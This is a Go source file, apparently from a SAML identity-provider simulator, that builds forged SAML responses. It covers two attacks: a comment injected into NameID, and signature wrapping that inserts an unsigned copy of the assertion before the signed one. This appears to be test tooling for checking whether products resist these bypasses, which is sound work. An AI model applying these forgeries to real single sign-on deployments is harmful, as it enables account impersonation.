package forge

import (
	"errors"
	"fmt"

	"github.com/beevik/etree"

	"rollcall.example/simulator/idp"
)

// documents are attacks on a product that verifies one thing and reads another: the
// signature holds, and what it covers is not what a careless reader sees.
var documents = []Attack{
	{
		Name: "comment-in-name-id", Summary: "breaks the name off with a comment", Honest: true,
		claims: func(d *Donor) error {
			d.Claims.NameID = d.Victim + beyond
			return nil
		},
		document: func(d Donor, draft *idp.Draft) error {
			name, err := find(draft.Assertion, "Subject/NameID")
			if err != nil {
				return err
			}
			name.SetText(d.Victim)
			name.AddChild(etree.NewComment(""))
			name.AddChild(etree.NewText(beyond))
			return nil
		},
	},
	{
		Name: "appended-assertion", Summary: "puts an assertion of its own before the signed one", Honest: true,
		claims: says(func(c *idp.Claims) { c.Sign = idp.SignAssertion }),
		document: func(d Donor, draft *idp.Draft) error {
			evil := draft.Assertion.Copy()
			evil.CreateAttr("ID", "id-of-the-other-one")
			if err := unsign(evil); err != nil {
				return err
			}
			if err := write(evil, "Subject/NameID", d.Victim); err != nil {
				return err
			}
			draft.Response.InsertChildAt(draft.Assertion.Index(), evil)
			return nil
		},
	},
}

// beyond makes the victim's address part of one of the attacker's own.
const beyond = ".attacker.rollcall.test"

// find returns the element at the path below the given one.
func find(below *etree.Element, path string) (*etree.Element, error) {
	found := below.FindElement("./" + path)
	if found == nil {
		return nil, fmt.Errorf("the donor's %s has no %s", below.Tag, path)
	}
	return found, nil
}

// write puts another text into the element at the path.
func write(below *etree.Element, path, text string) error {
	found, err := find(below, path)
	if err == nil {
		found.SetText(text)
	}
	return err
}

// change gives an attribute of the element at the path another value.
func change(below *etree.Element, path, attribute, value string) error {
	found, err := find(below, path)
	if err == nil {
		found.CreateAttr(attribute, value)
	}
	return err
}

// set changes an attribute in the assertion.
func set(path, attribute string, value func(Donor) string) func(Donor, *idp.Draft) error {
	return func(d Donor, draft *idp.Draft) error { return change(draft.Assertion, path, attribute, value(d)) }
}

// unsign takes the signatures out of the elements.
func unsign(elements ...*etree.Element) error {
	taken := 0
	for _, el := range elements {
		if signature := el.SelectElement("Signature"); signature != nil {
			el.RemoveChild(signature)
			taken++
		}
	}
	if taken == 0 {
		return errors.New("the donor is not signed")
	}
	return nil
}
